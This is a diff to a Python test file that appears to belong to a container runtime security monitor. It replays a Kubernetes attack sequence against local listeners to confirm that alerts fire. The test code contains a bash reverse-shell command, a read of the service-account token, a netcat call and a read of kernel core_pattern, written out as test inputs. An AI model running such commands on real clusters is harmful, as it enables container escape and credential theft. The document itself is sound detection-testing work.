@@ -10,11 +10,10 @@ import pathlib
 import shutil
 import socket
 import subprocess
-import tempfile
 import unittest
 
-from harness import Listener, wait_until
-from watched import ELSEWHERE, Watched
+from harness import wait_until
+from watched import ELSEWHERE, SECRET, Watched
 
 KUBELET = "Kubelet API called from a container"
 RUN = "Command run in a container after an unexpected kubelet call"
@@ -72,8 +71,6 @@ assert call(248, ctypes.c_void_p(name), ctypes.c_void_p(name), ctypes.c_void_p(n
 
 TOKEN_DIRECTORY = "/var/run/secrets/kubernetes.io/serviceaccount"
 
-SECRET = "postgres SCRAM-SHA-256\n"
-
 
 class Scenario(Watched):
     def pod(self):
@@ -90,17 +87,6 @@ class Scenario(Watched):
     def is_running(self, container):
         return container.exec("/bin/true").returncode == 0
 
-    def database(self):
-        """A file with credentials where a database of the node keeps its own."""
-        base = pathlib.Path("/var/lib/postgresql")
-        made = not base.exists()
-        base.mkdir(exist_ok=True)
-        directory = pathlib.Path(tempfile.mkdtemp(prefix="nezuban-", dir=base))
-        self.addCleanup(shutil.rmtree, base if made else directory)
-        file = directory / "pg_authid"
-        file.write_text(SECRET)
-        return file
-
     @staticmethod
     def cgroup2_mount():
         for line in pathlib.Path("/proc/self/mounts").read_text().splitlines():
@@ -112,8 +98,7 @@ class Scenario(Watched):
     # The story
 
     def test_the_whole_attack_in_order(self):
-        kubelet = Listener(10250)
-        self.addCleanup(kubelet.close)
+        kubelet = self.listener(10250)
         pod = self.pod()
         wait_until(lambda: self.is_running(pod), "the pod")
 
@@ -123,8 +108,7 @@ class Scenario(Watched):
         steps = [self.expect(KUBELET, foothold, foothold.id)]
 
         # 2. The command is a reverse shell; 3. in it the token is read and used.
-        attacker = Listener()
-        self.addCleanup(attacker.close)
+        attacker = self.listener()
         session = subprocess.Popen(
             [*pod.runtime, "exec", pod.id, "/usr/bin/bash", "-c",
              f"bash -i >& /dev/tcp/127.0.0.1/{attacker.port} 0>&1"],
@@ -271,8 +255,7 @@ class Scenario(Watched):
         wait_until(lambda: self.is_running(pod), "the pod")
         pod.exec("/usr/bin/bash", "-c", f"read t <{TOKEN_DIRECTORY}/token")
         pod.exec("/bin/sh", "-c", "cat /proc/self/status /proc/1/cmdline /dev/null >/dev/null; ls -l /proc/1 /sys/kernel")
-        served = Listener()
-        self.addCleanup(served.close)
+        served = self.listener()
         work = self.container("/bin/sh", "-c", "cat /proc/sys/kernel/core_pattern; echo x >/tmp/release_notes; "
                               f"nc -w 1 127.0.0.1 {served.port} </dev/null; ls /mnt; id; echo y >/dev/stdout")
         served.accept()[0].close()
